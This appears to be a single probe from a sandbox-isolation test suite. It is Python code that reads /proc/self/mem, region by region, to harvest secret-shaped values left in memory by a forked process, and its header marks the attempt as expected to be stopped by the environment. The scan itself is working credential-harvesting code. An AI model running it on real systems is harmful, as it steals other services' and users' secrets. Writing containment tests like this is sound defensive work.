# tries: searches all of its memory for secrets of the service and of others, left there by a fork
# stopped by: environment
# like: CVE-2026-122192
# with: {"timeout_ms": 60000, "limits": {"memory_mb": 1024}}

pattern = _re.compile(FACTS.secrets.encode() + b"[0-9a-f]{32}")
found = set()
with open("/proc/self/mem", "rb", buffering=0) as memory:
    for line in open("/proc/self/maps"):
        where, rights, _, _, _, *name = line.split()
        if not rights.startswith("rw") or name and name[0] in ("[vvar]", "[vsyscall]"):
            continue
        start, end = (int(number, 16) for number in where.split("-"))
        for begin in range(start, min(end, start + (256 << 20)), 1 << 20):
            try:
                memory.seek(begin)
                found |= set(pattern.findall(memory.read(min(1 << 20, end - begin) + 64)))
            except (OSError, ValueError, OverflowError):
                break
for secret in found:
    got(secret.decode())
